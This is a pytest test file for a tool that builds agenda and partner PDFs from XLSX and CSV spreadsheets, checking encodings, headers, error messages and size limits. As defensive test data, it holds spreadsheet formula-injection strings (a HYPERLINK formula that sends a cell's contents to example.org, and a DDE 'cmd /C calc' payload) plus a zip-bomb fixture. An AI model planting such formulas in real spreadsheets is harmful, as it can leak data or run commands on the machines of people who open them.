"""Agendas and partner lists read from spreadsheets (publication/sheets/): a sheet exported from a
YAML agenda builds the very same PDFs; a CSV written by a French Excel (`;`, BOM) reads; each bad
sheet is named at its cell, all problems at once, exit 2; a sheet edited under the preview rebuilds.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from publication.load import load_yaml
from publication.sheets import read_table
from publication.sheets.agenda import agenda_from_table
from publication.sheets.export import to_csv, to_xlsx
from publication.sheets.headers import header_names
from tests.conftest import ROOT, run_cli

VANTAA = "sources/workshops/2017-01-vantaa.yaml"
HEADER = ["date", "start", "end", "kind", "title_fr", "title_en", "speakers_fr", "speakers_en", "room", "code"]
ROWS = [
    [dt.date(2017, 1, 25), dt.time(9, 0), dt.time(9, 30), "break", "Accueil", "Welcome", None, None, "Hall", None],
    [
        None,
        "10:00",
        "11:00",
        "Plenary",
        "Ouverture",
        "Opening",
        "Anna KOSKI; maire; Ville de Vantaa; FI",
        "Anna KOSKI; mayor; City of Vantaa; FI",
        "Salle 1",
        None,
    ],
    [None, "11:00", "12:30", "workshop", "Ateliers", "Workshops", None, None, None, None],
    [None, None, None, "parallel", "Logement", "Housing", None, None, "Salle 2", "A1"],
    [None, None, None, "parallel", "Emploi", "Employment", None, None, "Salle 3", "A2"],
]


def write_sheet(path: Path, header: list, rows: list[list], fmt: str | None = None, delimiter: str = ",") -> None:
    """A sheet as a spreadsheet program saves it: XLSX (with openpyxl), or CSV."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if (fmt or path.suffix.lstrip(".")) == "csv":
        out = io.StringIO(newline="")
        csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(
            [header] + [["" if v is None else str(v) for v in row] for row in rows]
        )
        path.write_bytes(b"\xef\xbb\xbf" + out.getvalue().encode("utf-8"))
        return
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Programme"
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)


def name_sheet(project: Path, yaml_file: str, key: str, value: str) -> None:
    """Replace the list under `key` in a YAML source with the path of a sheet."""
    path = project / yaml_file
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.startswith(f"{key}:"))
    end = next((i for i in range(start + 1, len(lines)) if lines[i][:1].isalpha()), len(lines))
    path.write_text("".join([*lines[:start], f"{key}: {value}\n", *lines[end:]]), encoding="utf-8")


def copy_project(target: Path, sources: Path = ROOT / "sources") -> Path:
    shutil.copytree(sources, target / "sources")
    for name in ("layouts", "styles"):
        shutil.copytree(ROOT / name, target / name)
    return target


def pdfs(output: Path) -> dict[str, bytes]:
    return {p.relative_to(output).as_posix(): p.read_bytes() for p in sorted(output.rglob("*.pdf"))}


# --- the round trip: YAML → sheet → build gives the same PDFs -------------------------------------


# Texts a spreadsheet would take for formulas (issue 22: formula injection), as a session's titles.
FORMULAS = {
    "Accueil des participants et café": '=HYPERLINK("http://example.org/?"&A2,"Bienvenue")',
    "Welcome and coffee": "+33 1 43 99 70 00",
    "Empfang und Kaffee": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def with_formulas(project: Path) -> None:
    path = project / "sources/workshops/2016-09-dresden.yaml"
    text = path.read_text(encoding="utf-8")
    for old, new in FORMULAS.items():
        text = text.replace(f": {old}\n", f": {json.dumps(new)}\n", 1)
    path.write_text(text, encoding="utf-8")


@pytest.mark.build
@pytest.mark.parametrize(
    "example, workshop, fmt, selection",
    [
        ("", "2017-05-thessaloniki", "xlsx", ("--lang", "el", "--variant", "screen")),
        ("forum", "2027-09-novi-sad-forum", "xlsx", ("--lang", "en", "--variant", "print")),
        ("conference", "2027-06-tampere-annual-conference", "csv", ("--lang", "fr", "--variant", "screen")),
        ("", "2016-09-dresden", "csv", ("--lang", "fr", "--variant", "screen")),  # titles like formulas
        ("", "2016-09-dresden", "xlsx", ("--lang", "en", "--variant", "screen")),
    ],
)
def test_an_exported_agenda_builds_the_same_pdfs(tmp_path, request, example, workshop, fmt, selection):
    """Shipped (three languages, free-text speakers), the forum (parallel slots, a hundred people) and
    the conference as CSV (an evening item without a time, visits leaving from meeting points); Dresden
    with titles a spreadsheet would take for formulas (`=HYPERLINK(…)`, a phone number `+33…`).
    The sources left as they are were built by the session (`built`, `examples`): that build is the
    one the sheet's is compared with."""
    sources = ROOT / "examples" / example / "sources" if example else ROOT / "sources"
    built = {}
    names = ("yaml", "sheet") if workshop == "2016-09-dresden" else ("sheet",)
    for name in names:
        project = copy_project(tmp_path / name, sources)
        if workshop == "2016-09-dresden":
            with_formulas(project)
        if name == "sheet":
            exported = run_cli("export-agenda", workshop, "--format", fmt, project=project)
            assert exported.exit_code == 0, exported.output
            assert f"agenda: agenda/{workshop}.{fmt}" in exported.output
            name_sheet(project, f"sources/workshops/{workshop}.yaml", "agenda", f"agenda/{workshop}.{fmt}")
            assert "agenda:\n" not in (project / f"sources/workshops/{workshop}.yaml").read_text()
        programme = ("--kind", "programme", "--event", workshop)
        result = run_cli("build", *programme, *selection, "--jobs", "1", "--quiet", project=project)
        assert result.exit_code == 0, result.output
        built[name] = pdfs(project / "output")
    if "yaml" not in built:
        output = request.getfixturevalue("examples")[example] if example else request.getfixturevalue("built")
        built["yaml"] = {name: (output / name).read_bytes() for name in built["sheet"]}
    lang, variant = selection[1], selection[3]
    assert built["sheet"].keys() == built["yaml"].keys() == {f"{lang}/programme-{workshop}-{variant}.pdf"}
    differing = [name for name in built["yaml"] if built["yaml"][name] != built["sheet"][name]]
    assert differing == []


def test_export_is_reproducible_and_readable(tmp_path):
    doc, _ = load_yaml(ROOT / "examples/forum/sources/workshops/2027-09-novi-sad-forum.yaml")
    days = doc.data["agenda"]
    assert to_xlsx(days) == to_xlsx(days) and to_csv(days) == to_csv(days)
    with zipfile.ZipFile(io.BytesIO(to_xlsx(days))) as archive:  # no clock inside: the same bytes tomorrow
        assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
        assert "2000-01-01T00:00:00Z</dcterms:created>" in core and "2000-01-01T00:00:00Z</dcterms:modified>" in core
    (tmp_path / "a.xlsx").write_bytes(to_xlsx(days))
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["Programme"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:6] == ["date", "day_title_fr", "day_title_en", "start", "end", "kind"]
    assert sheet["A2"].value == dt.datetime(2027, 9, 22) and sheet["D2"].value == dt.time(8, 30)
    assert sheet["A2"].number_format == "yyyy-mm-dd" and sheet["D2"].number_format == "hh:mm"
    assert 8 <= sheet.column_dimensions["A"].width <= 60 and sheet["A1"].font.b
    parallel = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[5] == "parallel"]
    assert len(parallel) >= 20 and all(row[3] is None for row in parallel)
    table = read_table(tmp_path / "a.xlsx", "a.xlsx")
    sheet_doc, problems = agenda_from_table(table)
    assert table.problems == [] and problems == []
    assert sheet_doc.data[0]["sessions"][3]["parallel"][0]["code"] == "A1"
    from publication.sheets.export import table_of

    assert table_of([], ("fr", "en")) == (["date", "start", "end", "kind", "title_fr", "title_en"], [])


def test_a_csv_written_with_semicolons_and_a_bom_reads_as_the_xlsx(tmp_path):
    """As Excel saves "CSV UTF-8" in a French locale: `;` between cells, a byte-order mark, line
    breaks inside quoted cells, dates as 22/09/2027 and times as 9:30."""
    doc, _ = load_yaml(ROOT / "examples/forum/sources/workshops/2027-09-novi-sad-forum.yaml")
    (tmp_path / "a.xlsx").write_bytes(to_xlsx(doc.data["agenda"]))
    rows = list(csv.reader(io.StringIO(to_csv(doc.data["agenda"]).decode("utf-8-sig"), newline="")))
    for row in rows[1:]:
        year, month, day = row[0].split("-")
        row[0] = f"{day}/{month}/{year}"
        row[3] = row[3].lstrip("0")
    write_sheet(tmp_path / "a.csv", rows[0], rows[1:], delimiter=";")
    raw = (tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b";" in raw.split(b"\r\n")[0] and b"22/09/2027;" in raw
    from_csv, problems = agenda_from_table(read_table(tmp_path / "a.csv", "a.csv"))
    from_xlsx, _ = agenda_from_table(read_table(tmp_path / "a.xlsx", "a.xlsx"))
    assert problems == [] and from_csv.data == from_xlsx.data
    assert from_csv.lines[(0, "sessions", 1, "start")] == "D3"


# As French Excel saves "CSV (séparateur : point-virgule)": Windows-1252, `;`, CRLF. é, œ, the euro
# sign and a non-breaking space are one byte each (0xe9, 0x9c, 0x80, 0xa0), none of them UTF-8.
CP1252_CSV = (
    "date;start;end;kind;title_fr;title_en;room\r\n"
    "25/01/2017;9:00;9:30;break;Accueil café;Welcome;Hall\r\n"
    "25/01/2017;10:00;11:00;session;Œuvres et cœur : 10\u00a0€ l’entrée;Works: €10 a head;Salle 1\r\n"
)


def test_a_csv_saved_by_french_excel_reads_as_windows_1252_with_a_warning(project_copy):
    raw = CP1252_CSV.encode("cp1252")
    assert b"\xe9" in raw and b"\x9c" in raw and b"\x80" in raw and b"\xa0" in raw
    (project_copy / "sources/agenda").mkdir(parents=True, exist_ok=True)
    (project_copy / "sources/agenda/excel.csv").write_bytes(raw)
    table = read_table(project_copy / "sources/agenda/excel.csv", "sources/agenda/excel.csv")
    doc, problems = agenda_from_table(table)
    assert problems == [] and table.problems == []
    session = doc.data[0]["sessions"][1]
    assert session["title"] == {"fr": "Œuvres et cœur : 10\u00a0€ l’entrée", "en": "Works: €10 a head"}
    assert doc.data[0]["sessions"][0]["title"]["fr"] == "Accueil café"
    name_sheet(project_copy, VANTAA, "agenda", "agenda/excel.csv")
    result = run_cli("check", project=project_copy)
    assert result.exit_code == 0, result.output
    assert (
        "sources/agenda/excel.csv: is not UTF-8 text (byte 0xe9 on line 2): read as Windows-1252, "
        "the character set Excel uses for CSV in Western European languages"
    ) in " ".join(result.output.split())


FRENCH_HEADER = ["Date", "Début", "Fin", "Nature", "Titre FR", "Titre (EN)", "Intervenants FR", "Intervenants EN"]


def test_headers_in_french_read_as_the_english_field_names(tmp_path):
    """The catalogues' names: 'Titre FR' is title_fr (not a did-you-mean of title), 'Titre (EN)' title_en."""
    english = [row[:8] for row in ROWS]
    write_sheet(
        tmp_path / "fr.xlsx", [*FRENCH_HEADER, "Salle FR", "Salle EN"], [[*r, "Salle", "Room"] for r in english]
    )
    write_sheet(tmp_path / "en.xlsx", [*HEADER[:8], "room_fr", "room_en"], [[*r, "Salle", "Room"] for r in english])
    names = header_names(ROOT, ["fr", "en"])
    french, problems = agenda_from_table(read_table(tmp_path / "fr.xlsx", "fr.xlsx"), names)
    assert problems == []
    assert french.data == agenda_from_table(read_table(tmp_path / "en.xlsx", "en.xlsx"), names)[0].data
    assert french.data[0]["sessions"][1]["title"] == {"fr": "Ouverture", "en": "Opening"}
    assert french.fields[(0, "sessions", 1, "title", "fr")] == "Titre FR"


def test_unknown_headers_are_one_problem_listing_the_columns_once(project_copy):
    header = ["Date", "Debutt", "Fin", "Nature", "Titr FR", "Titre EN", "Couleur", "Intervenant FR"]
    write_sheet(project_copy / "sources/agenda/fr.xlsx", header, [row[:8] for row in ROWS])
    name_sheet(project_copy, VANTAA, "agenda", "agenda/fr.xlsx")
    result = run_cli("check", project=project_copy)
    assert result.exit_code == 2
    assert result.output.count("unknown column") == 1 and result.output.count("the columns are:") == 1
    assert (
        "sources/agenda/fr.xlsx:Programme!B1: 3 unknown columns: 'Debutt' (B1: did you mean 'Début'?), "
        "'Titr FR' (E1: did you mean 'Titre FR'?), 'Couleur' (G1)\n    fix: rename or delete them; the columns are: "
    ) in result.output


def test_serial_dates_merged_cells_blank_rows_and_headers_in_any_case(tmp_path):
    """Dates as Excel serial numbers, a day's date merged down its rows, an empty row between two
    items, 'Title FR' and 'Début'-free English headers in capitals and with accents."""
    path = tmp_path / "a.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["DATE", "Start", "End", "Kind", "Títle FR", "title-en", "Speakers"])
    sheet.append([42760, 0.375, 0.40625, "Break", "Accueil", "Welcome", None])
    sheet.append([None, None, None, None, None, None, None])
    sheet.append([None, "10:00", "11:00", "session", "Table ronde", "Round table", "Anna KOSKI;\nURBACT experts"])
    sheet.merge_cells("A2:A4")
    book.save(path)
    doc, problems = agenda_from_table(read_table(path, "a.xlsx"))
    assert problems == []
    assert doc.data == [
        {
            "date": "2017-01-25",
            "sessions": [
                {"start": "09:00", "end": "09:45", "kind": "break", "title": {"fr": "Accueil", "en": "Welcome"}},
                {
                    "start": "10:00",
                    "end": "11:00",
                    "kind": "session",
                    "title": {"fr": "Table ronde", "en": "Round table"},
                    "speakers": [{"name": "Anna KOSKI"}, "URBACT experts"],
                },
            ],
        }
    ]
    assert doc.where((0, "sessions", 1, "speakers", 1)) == (Path("a.xlsx"), "Sheet!G4")
    assert doc.field_of((0, "sessions", 1, "speakers", 1)) == "Speakers line 2"


def test_the_worksheet_named_after_a_hash_is_read(project_copy):
    """A host's workbook with the programme on its second sheet: `agenda/x.xlsx#Programme`."""
    path = project_copy / "sources/agenda/two.xlsx"
    write_sheet(path, HEADER, ROWS)
    book = openpyxl.load_workbook(path)
    book.create_sheet("Participants", 0).append(["name", "city"])
    book.save(path)
    name_sheet(project_copy, VANTAA, "agenda", "agenda/two.xlsx#Programme")
    named = run_cli("check", project=project_copy)
    name_sheet(project_copy, VANTAA, "agenda", "agenda/two.xlsx")
    first = run_cli("check", project=project_copy)
    assert named.exit_code == 0, named.output
    assert first.exit_code == 2
    assert (
        "sources/agenda/two.xlsx:Participants!A1: the first row holds no column name (it reads 'name')" in first.output
    )
    assert "or name the right worksheet after # in the YAML" in first.output


def test_people_per_language_and_a_language_left_empty(tmp_path):
    """The same people on the same lines of `speakers_fr` and `speakers_en`; an organisation the
    same in both stays written per language (it was: no "written once" warning); an empty English
    cell leaves the English missing."""
    rows = edited({"H3": "Anna KOSKI; mayor; Ville de Vantaa; FI", "G4": "Urbanistes", "H4": "Planners"})[1]
    write_sheet(tmp_path / "a.xlsx", HEADER, rows)
    doc, problems = agenda_from_table(read_table(tmp_path / "a.xlsx", "a.xlsx"))
    assert problems == []
    sessions = doc.data[0]["sessions"]
    assert sessions[1]["speakers"] == [
        {
            "name": "Anna KOSKI",
            "role": {"fr": "maire", "en": "mayor"},
            "organisation": {"fr": "Ville de Vantaa", "en": "Ville de Vantaa"},
            "country": "FI",
        }
    ]
    assert sessions[2]["speakers"] == [{"fr": "Urbanistes", "en": "Planners"}]
    write_sheet(tmp_path / "b.xlsx", HEADER, edited({"H3": None})[1])
    doc, problems = agenda_from_table(read_table(tmp_path / "b.xlsx", "b.xlsx"))
    assert problems == [] and doc.data[0]["sessions"][1]["speakers"] == [
        {"name": "Anna KOSKI", "role": {"fr": "maire"}, "organisation": {"fr": "Ville de Vantaa"}, "country": "FI"}
    ]
    assert doc.where((0, "sessions", 1, "speakers", 0, "role", "fr")) == (Path("b.xlsx"), "Programme!G3")


def test_a_partner_list_may_be_a_sheet(tmp_path):
    """partners.yaml says `partners: partners.xlsx`: the same partners, problems at their cells."""
    project = copy_project(tmp_path)
    partners = yaml.safe_load((ROOT / "sources/partners.yaml").read_text())["partners"]
    header = [
        "id",
        "name",
        "name_fr",
        "name_en",
        "name_de",
        "name_el",
        "short_name_fr",
        "short_name_en",
        "short_name_de",
        "short_name_el",
        "kind",
        "country",
        "role",
        "lat",
        "lon",
        "language",
    ]
    rows = []
    for p in partners:
        name, short = p["name"], p.get("short_name") or {}
        names = (
            [None, *(name.get(lang) for lang in ("fr", "en", "de", "el"))]
            if isinstance(name, dict)
            else [name] + [None] * 4
        )
        rows.append(
            [
                p["id"],
                *names,
                *(short.get(lang) for lang in ("fr", "en", "de", "el")),
                p.get("kind"),
                p["country"],
                p["role"],
                p["location"]["lat"],
                p["location"]["lon"],
                p.get("language"),
            ]
        )
    write_sheet(project / "sources/partners.xlsx", header, rows)
    name_sheet(project, "sources/partners.yaml", "partners", "partners.xlsx")
    checked = run_cli("check", project=project)
    assert checked.exit_code == 0, checked.output
    rows[0][11] = "Portugal"
    write_sheet(project / "sources/partners.xlsx", header, rows)
    checked = run_cli("check", project=project)
    assert checked.exit_code == 2
    assert (
        "sources/partners.xlsx:Programme!L2: country 'Portugal' is not in the expected form\n"
        "    fix: use the two-letter ISO code in capitals" in checked.output
    )
    rows[0][11] = "PT"
    write_sheet(project / "sources/partners.xlsx", header, rows)
    workshop = project / "sources/workshops/2017-01-vantaa.yaml"
    workshop.write_text(re.sub(r"(?m)^host: .*$", "host: nowhere", workshop.read_text(encoding="utf-8")), "utf-8")
    checked = run_cli("check", project=project)
    assert "fix: use a partner id from partners.xlsx: " in checked.output, checked.output  # not partners.yaml


# --- bad sheets: each named at its cell (or its file), exit 2 --------------------------------------


def edited(changes: dict[str, object], header: list | None = None, rows: list | None = None):
    """The base agenda with some cells changed, by their Excel name ({'B3': '9h'})."""
    header, rows = list(header or HEADER), [list(row) for row in rows or ROWS]
    for ref, value in changes.items():
        column = ord(ref[0]) - ord("A")
        number = int(ref[1:])
        target = header if number == 1 else rows[number - 2]
        target += [None] * (column + 1 - len(target))
        target[column] = value
    return header, rows


def damaged_zip(path: Path) -> None:
    write_sheet(path, HEADER, ROWS)
    path.write_bytes(path.read_bytes()[:900])


def with_formula(path: Path) -> None:
    """openpyxl writes formulas without their value, as a program (not a spreadsheet) would."""
    header, rows = edited({"C3": "=B3+1/24"})
    write_sheet(path, header, rows)


def huge_csv(path: Path) -> None:
    write_sheet(path, HEADER, [["2017-01-25", "09:00", "09:30", "break", "x" * 100, "y", "", "", "", ""]] * 5001)


def wide_csv(path: Path) -> None:
    write_sheet(path, HEADER + [f"note_{i}" for i in range(91)], [])


def heavy_csv(path: Path) -> None:
    write_sheet(path, HEADER, [["2017-01-25", "09:00", "09:30", "break", "x" * 5_500_000, "y", "", "", "", ""]])


def zip_bomb(path: Path) -> None:
    """A small file that unpacks to 42 MB."""
    write_sheet(path, HEADER, ROWS)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", bytes(42 * 2**20))


def not_text_csv(path: Path) -> None:
    """0x81 is neither UTF-8 (a continuation byte alone) nor a Windows-1252 character."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"date,start,title\n2017-01-25,09:00,Accueil \x81\n")


SHEET = "sources/agenda/case.xlsx"
BAD_SHEETS = [
    # id, file name, how it is made, what the message says (the location, the field, the problem)
    (
        "time not a time",
        "case.xlsx",
        edited({"B3": "9h"}),
        f"{SHEET}:Programme!B3: start '9h' is not a time like 09:00 (24-hour clock, two digits each)",
    ),
    (
        "unknown column",
        "case.xlsx",
        edited({"K1": "Tittle"}),
        f"{SHEET}:Programme!K1: unknown column 'Tittle'\n    fix: did you mean 'title'? If not, rename or delete it; "
        "the columns are: date (Datum, Ημερομηνία); day_title (Titel des Tages, Τίτλος ημέρας, Titre du jour);",
    ),
    (
        "language column of a plain field",
        "case.xlsx",
        edited({"K1": "start_fr"}),
        f"{SHEET}:Programme!K1: unknown column 'start_fr'\n    fix: 'start' is the same in every language: "
        "head the column 'start'. If not, rename or delete it",
    ),
    (
        "column twice",
        "case.xlsx",
        edited({"K1": "Title FR"}),
        f"{SHEET}:Programme!K1: column 'Title FR' is given twice (first in Programme!E1)",
    ),
    (
        "a title above the table",
        "case.xlsx",
        ([None, "Programme de l'atelier"], [HEADER, *ROWS]),
        f"{SHEET}:Programme!A1: the first row holds no column name (it reads 'Programme de l'atelier')\n"
        f"    fix: make the first row the column names (date, day_title, start, end, when…): delete the rows above",
    ),
    ("no date column", "case.xlsx", edited({"A1": "day"}), f"{SHEET}:Programme!A1: has no 'date' column"),
    (
        "a day outside the workshop's dates",
        "case.xlsx",
        edited({"A2": dt.date(2017, 2, 1)}),
        f"{SHEET}:Programme!A2: date agenda day 2017-02-01 lies outside the workshop's dates "
        "(2017-01-25 to 2017-01-26)",
    ),
    (
        "first row without a date",
        "case.xlsx",
        edited({"A2": None}),
        f"{SHEET}:Programme!A2: date the first row has no date",
    ),
    (
        "date that does not exist",
        "case.xlsx",
        edited({"A2": "2017-02-30"}),
        f"{SHEET}:Programme!A2: date '2017-02-30' does not exist: February 2017 has 28 days",
    ),
    (
        "kind not allowed",
        "case.xlsx",
        edited({"D3": "brek"}),
        f"{SHEET}:Programme!D3: kind 'brek' is not allowed\n    fix: use one of 'session', 'plenary'",
    ),
    (
        "ends before it starts",
        "case.xlsx",
        edited({"C3": "09:45"}),
        f"{SHEET}:Programme!A3: row 3 ends at 09:45, not after it starts at 10:00",
    ),
    (
        "missing title",
        "case.xlsx",
        edited({"E5": None, "F5": None}),
        f"{SHEET}:Programme!E5: title_fr is required but missing",
    ),
    (
        "parallel session with no item above",
        "case.xlsx",
        edited({"D2": "parallel"}),
        f"{SHEET}:Programme!D2: kind a parallel session has no item above it on its day",
    ),
    (
        "parallel session at another time",
        "case.xlsx",
        edited({"B5": "11:30"}),
        f"{SHEET}:Programme!B5: start '11:30' is not the start of the item this parallel session is held in (11:00)",
    ),
    (
        "code on an item of the day",
        "case.xlsx",
        edited({"J3": "B1"}),
        f"{SHEET}:Programme!J3: code 'B1' is for a parallel session; this row is an item of the day",
    ),
    (
        "speaker of five parts",
        "case.xlsx",
        edited({"G3": "Anna KOSKI; maire; Ville; FI; extra"}),
        f"{SHEET}:Programme!G3: speakers_fr 'Anna KOSKI;maire;Ville;FI;extra' is not 'Name; role; organisation; country'",
    ),
    (
        "speakers not on the same lines",
        "case.xlsx",
        edited({"G3": "Anna KOSKI; maire; Ville; FI\nBo; élu;"}),
        f"{SHEET}:Programme!H3: speakers_en the languages do not list the same number of people "
        f"(speakers_fr: 2, speakers_en: 1)",
    ),
    (
        "country differs between languages",
        "case.xlsx",
        edited({"H3": "Anna KOSKI; mayor; City of Vantaa; SE"}),
        f"{SHEET}:Programme!G3: speakers_fr the country differs between the languages (FI / SE)",
    ),
    (
        "bad country code",
        "case.xlsx",
        edited({"G3": "Anna KOSKI; maire; Ville; Finland", "H3": "Anna KOSKI; mayor; City; Finland"}),
        f"{SHEET}:Programme!G3: speakers_fr line 1 'Finland' is not in the expected form",
    ),
    (
        "text both for every language and per language",
        "case.xlsx",
        edited({"K1": "title", "K2": "Café"}),
        f"{SHEET}:Programme!E2: title_fr 'title' is given both for every language (title) and per language",
    ),
    (
        "day given twice",
        "case.xlsx",
        edited({"A3": "2017-01-26", "A4": "2017-01-25"}),
        f"{SHEET}:Programme!A4: date day 2017-01-25 was already given above (from Programme!A2)",
    ),
    (
        "formula without a saved value",
        "case.xlsx",
        with_formula,
        f"{SHEET}:Programme!C3: is a formula with no saved value\n    fix: open the file in Excel or LibreOffice and save it",
    ),
    (
        "password-protected workbook",
        "case.xlsx",
        lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        f"{SHEET}: is password-protected (encrypted), or an old Excel 97-2003 workbook renamed .xlsx",
    ),
    ("damaged archive", "case.xlsx", damaged_zip, f"{SHEET}: is not a readable XLSX workbook (it is damaged"),
    (
        "rows over the bound",
        "case.csv",
        huge_csv,
        "sources/agenda/case.csv: has more than the 5000 rows a sheet may have (row 5,001 holds a value)",
    ),
    (
        "columns over the bound",
        "case.csv",
        wide_csv,
        "sources/agenda/case.csv: has more than the 100 columns a sheet may have (column 101 holds a value)",
    ),
    (
        "file over the bound",
        "case.csv",
        heavy_csv,
        "sources/agenda/case.csv: is 5.5 MB, more than the 5 MB a sheet may be",
    ),
    (
        "unpacks over the bound",
        "case.xlsx",
        zip_bomb,
        f"{SHEET}: unpacks to 44 MB, more than the 40 MB a sheet may hold",
    ),
    (
        "no such worksheet",
        "case.xlsx#Agenda",
        edited({}),
        f"{SHEET}: has no worksheet named 'Agenda'\n    fix: name one of its sheets after #: Programme",
    ),
    (
        "CSV neither UTF-8 nor Windows-1252",
        "case.csv",
        not_text_csv,
        "sources/agenda/case.csv: is neither UTF-8 nor Windows-1252 text (byte 0x81 on line 2)",
    ),
    (
        "old .xls",
        "case.xls",
        lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        f"{VANTAA}:16: agenda 'agenda/case.xls' is an old Excel 97-2003 workbook (.xls), which cannot be read\n"
        f"    fix: save it from Excel or LibreOffice as .xlsx",
    ),
    ("no such file", "missing.xlsx", None, f"{VANTAA}:16: agenda 'agenda/missing.xlsx' does not exist"),
    (
        "outside the sources",
        "../case.xlsx",
        edited({}),
        f"{VANTAA}:16: agenda '../case.xlsx' lies outside the sources folder",
    ),
]


@pytest.mark.parametrize("case, name, make, expected", BAD_SHEETS, ids=[case[0] for case in BAD_SHEETS])
def test_a_bad_sheet_is_named_at_its_cell(project_copy, case, name, make, expected):
    project = project_copy
    path = project / "sources" / "agenda" / name.partition("#")[0]
    path.parent.mkdir(parents=True, exist_ok=True)
    if callable(make) and not isinstance(make, tuple):
        make(path)
    elif make is not None:
        write_sheet(path, *make)
    name_sheet(project, VANTAA, "agenda", f"agenda/{name}" if not name.startswith("..") else name)
    result = run_cli("check", project=project)
    assert result.exit_code == 2, result.output
    assert expected in result.output, result.output
    assert "Traceback" not in result.output


def test_every_problem_of_a_sheet_at_once(project_copy):
    header, rows = edited({"B3": "9h", "D4": "brek", "K1": "Tittle", "E5": None, "F5": None})
    write_sheet(project_copy / "sources/agenda/many.xlsx", header, rows)
    name_sheet(project_copy, VANTAA, "agenda", "agenda/many.xlsx")
    result = run_cli("check", project=project_copy)
    assert result.exit_code == 2
    assert "4 problems in the sources:" in result.output
    for where in (
        "Programme!K1: unknown column",
        "Programme!B3: start '9h'",
        "Programme!D4: kind 'brek'",
        "Programme!E5: title_fr is required",
    ):
        assert f"sources/agenda/many.xlsx:{where}" in result.output


# --- the sheet is an input like the YAML: incremental keys and the preview -----------------------


def sheet_project_with_vantaa_agenda(target: Path) -> Path:
    project = copy_project(target)
    exported = run_cli("export-agenda", "2017-01-vantaa", project=project)
    assert exported.exit_code == 0, exported.output
    name_sheet(project, VANTAA, "agenda", "agenda/2017-01-vantaa.xlsx")
    return project


def retitle(sheet: Path, old: str, new: str) -> None:
    """Change a title in the sheet and save it as a spreadsheet program does (a new file renamed over it)."""
    book = openpyxl.load_workbook(sheet)
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value == old]
    assert cells, old
    cells[0].value = new
    book.save(sheet.with_name("saving.tmp"))
    sheet.with_name("saving.tmp").replace(sheet)


@pytest.mark.build
def test_editing_the_sheet_rebuilds_its_programme_only(tmp_path):
    project = sheet_project_with_vantaa_agenda(tmp_path)
    selection = ("--kind", "programme", "--kind", "overview", "--lang", "fr", "--variant", "screen", "--jobs", "1")
    first = run_cli("build", *selection, project=project)
    assert first.exit_code == 0, first.output
    unchanged = run_cli("build", *selection, project=project)
    assert "built 0, unchanged 6," in unchanged.output, unchanged.output
    retitle(project / "sources/agenda/2017-01-vantaa.xlsx", "Table ronde thématique", "Table ronde sur le logement")
    again = run_cli("build", *selection, project=project)
    assert again.exit_code == 0, again.output
    from tests.pdfs import flat_text

    assert "Table ronde sur le logement" in flat_text(project / "output/fr/programme-2017-01-vantaa-screen.pdf")
    assert "built 1, unchanged 5," in again.output, again.output  # the overview prints no agenda


@pytest.mark.build
def test_a_sheet_edited_while_the_preview_runs_rebuilds_the_programme(tmp_path):
    import signal

    from tests.pdfs import flat_text
    from tests.test_preview import free_port, read_status, start_preview, wait_until

    project = sheet_project_with_vantaa_agenda(tmp_path / "project")
    key = "fr/programme-2017-01-vantaa-screen"
    port = free_port()
    log = tmp_path / "preview.log"
    with log.open("w") as stream:
        server = start_preview(project, port, stream)
    try:
        first = wait_until(
            lambda: (s := read_status(port)) and not s["building"] and key in s["documents"] and s["documents"][key],
            60,
            "the first build",
        )  # the programme's sha256
        (project / "sources/agenda/.~lock.2017-01-vantaa.xlsx#").write_text("LibreOffice's lock file")
        retitle(project / "sources/agenda/2017-01-vantaa.xlsx", "Table ronde thématique", "Table ronde sur le logement")
        wait_until(
            lambda: (s := read_status(port)) and not s["building"] and s["documents"].get(key) not in (None, first),
            30,
            "the rebuilt programme",
        )
        assert "Table ronde sur le logement" in flat_text(project / ".cache/preview" / f"{key}.pdf")
        wait_until(lambda: "changed: sources/agenda/2017-01-vantaa.xlsx" in log.read_text(), 5, "the change told")
        assert ".~lock." not in log.read_text()
    finally:
        server.send_signal(signal.SIGINT)
        returncode = server.wait(timeout=20)
    assert returncode == 0, log.read_text()


@pytest.mark.build
def test_the_sheets_example_builds_from_its_xlsx_agenda_and_csv_partners(tmp_path):
    """examples/sheets: the conference example with its agenda in XLSX and its partners in CSV (`;`)."""
    from tests.pdfs import flat_text

    sources = ROOT / "examples/sheets/sources"
    assert (
        "agenda: agenda/2027-06-tampere-annual-conference.xlsx"
        in (sources / "workshops/2027-06-tampere-annual-conference.yaml").read_text()
    )
    assert "partners: partners.csv" in (sources / "partners.yaml").read_text()
    project = tmp_path / "sheets"
    assert run_cli("new", str(project), "--from", str(sources)).exit_code == 0
    checked = run_cli("check", project=project)
    assert checked.exit_code == 0 and "11 partners, 1 workshop, 0 warnings" in checked.output, checked.output
    from publication.keys import KeyMaker
    from publication.plan import BuildOptions, plan_publications
    from publication.sources import read_sources

    sources_read = read_sources(project / "sources")
    keys = KeyMaker(project, sources_read)
    files = {
        kind: {f.name for p in plan_publications(sources_read, BuildOptions()) if p.kind == kind for f in keys.files(p)}
        for kind in ("programme", "brochure")
    }
    assert {"partners.csv", "2027-06-tampere-annual-conference.xlsx"} <= files["programme"]
